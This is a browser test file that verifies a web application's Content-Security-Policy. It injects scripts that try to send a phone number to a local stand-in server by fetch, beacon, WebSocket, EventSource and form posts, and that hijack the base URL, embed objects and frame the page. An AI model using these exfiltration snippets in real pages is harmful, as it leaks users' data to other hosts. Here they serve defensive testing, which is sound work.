import { createServer } from 'node:http'
import type { Browser, Page } from 'playwright'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { securityHeaders } from '#main/http-responses'
import { launchChromium } from '../../support/browser/chromium'
import { listen } from '../../support/files/s3'
import { copyPractice } from '../../support/institute/practice-copy'
import { newFolder, removeFolder } from '../support/desk'
import { startProgram } from '../support/program'

test('the policy has exactly these directives', () => {
  const policy = securityHeaders['content-security-policy'] ?? ''
  const directives = policy.split('; ').map((directive) => directive.split(/ (.*)/s).slice(0, 2))
  expect(Object.fromEntries(directives)).toEqual({
    'default-src': "'self'",
    'script-src': "'self'",
    'style-src': "'self' 'unsafe-inline'",
    'img-src': "'self' data: blob:",
    'media-src': "'self'",
    'connect-src': "'self'",
    'worker-src': "'self' blob:",
    'object-src': "'none'",
    'base-uri': "'none'",
    'frame-ancestors': "'none'",
    'form-action': "'none'",
  })
})

/** Attempts of an injected script, in the built program and a real browser. */
describe('in the page', () => {
  let folder: string
  let program: Awaited<ReturnType<typeof startProgram>>
  let browser: Browser
  let page: Page
  let outsideUrl: string
  const reached: string[] = []
  /** Accepts all requests, so that only the content policy can block one. */
  const outsideServer = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`)
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('taken')
  })

  beforeAll(async () => {
    folder = newFolder()
    copyPractice(folder)
    outsideUrl = `http://127.0.0.1:${await listen(outsideServer)}`
    program = await startProgram(folder)
    browser = await launchChromium()
    page = await browser.newPage()
    await page.goto(await program.newAddress())
    await page.getByRole('heading', { name: 'Login Account' }).waitFor()
    await page.evaluate(() => {
      const violations: string[] = []
      Object.assign(window, { violations })
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
    })
  })
  afterAll(async () => {
    await browser.close()
    await program.stop()
    outsideServer.close()
    removeFolder(folder)
  })
  const recordedViolations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations)
  let countBefore = 0
  beforeEach(async () => {
    reached.length = 0
    countBefore = (await recordedViolations()).length
  })
  /** The directives that the test has violated so far, in order. */
  const violations = async () => (await recordedViolations()).slice(countBefore)
  const violatedDirectives = async () => [...new Set(await violations())]

  const outsideCalls: Record<string, (outsideUrl: string) => Promise<unknown>> = {
    fetch: (outsideUrl) => fetch(`${outsideUrl}/take?phone=9812045678`, { mode: 'no-cors' }).catch(String),
    'a beacon': async (outsideUrl) => navigator.sendBeacon(`${outsideUrl}/take`, '9812045678'),
    'a socket': (outsideUrl) =>
      new Promise((resolve) => {
        const socket = new WebSocket(outsideUrl.replace('http', 'ws'))
        socket.onerror = socket.onopen = resolve
      }),
    events: (outsideUrl) =>
      new Promise((resolve) => {
        const source = new EventSource(`${outsideUrl}/take`)
        source.onerror = source.onopen = resolve
      }),
  }
  test.each(Object.entries(outsideCalls))('nothing is sent elsewhere by %s (connect-src)', async (_, attempt) => {
    await page.evaluate(attempt, outsideUrl)
    await expect.poll(violatedDirectives).toEqual(['connect-src'])
    expect(reached).toEqual([])
  })

  test('no form is sent, neither elsewhere nor here (form-action)', async () => {
    const pageUrl = page.url()
    for (const action of [`${outsideUrl}/take`, '/registered-user'])
      await page.evaluate((action) => {
        const form = document.createElement('form')
        Object.assign(form, { action, method: 'post' })
        document.body.append(form)
        form.submit()
      }, action)
    await expect.poll(violations).toEqual(['form-action', 'form-action'])
    expect([page.url(), reached]).toEqual([pageUrl, []])
  })

  test('relative addresses cannot be redirected (base-uri)', async () => {
    const baseUrl = await page.evaluate(() => document.baseURI)
    const after = await page.evaluate((outsideUrl) => {
      const base = document.createElement('base')
      base.href = `${outsideUrl}/`
      document.head.prepend(base)
      const leadsTo = document.baseURI
      base.remove()
      return leadsTo
    }, outsideUrl)
    expect(after).toBe(baseUrl)
    expect(await violatedDirectives()).toEqual(['base-uri'])
  })

  test('nothing is embedded, not even what is served here (object-src)', async () => {
    await page.evaluate(() => {
      for (const [name, from] of [
        ['object', 'data'],
        ['embed', 'src'],
      ] as const) {
        const element = document.createElement(name)
        element.setAttribute(from, '/auth/login')
        element.setAttribute('type', 'text/html')
        document.body.append(element)
      }
    })
    await expect.poll(violatedDirectives).toEqual(['object-src'])
  })

  test('no page frames the program, not even its own (frame-ancestors)', async () => {
    const framed = await page.evaluate(async () => {
      const frame = document.createElement('iframe')
      frame.src = '/auth/login'
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
      document.body.append(frame)
      await loaded
      // A blocked frame shows an error page of the browser, which has no origin.
      const inside = frame.contentDocument?.title
      frame.remove()
      return inside
    })
    expect(framed).toBeUndefined()
  })
})
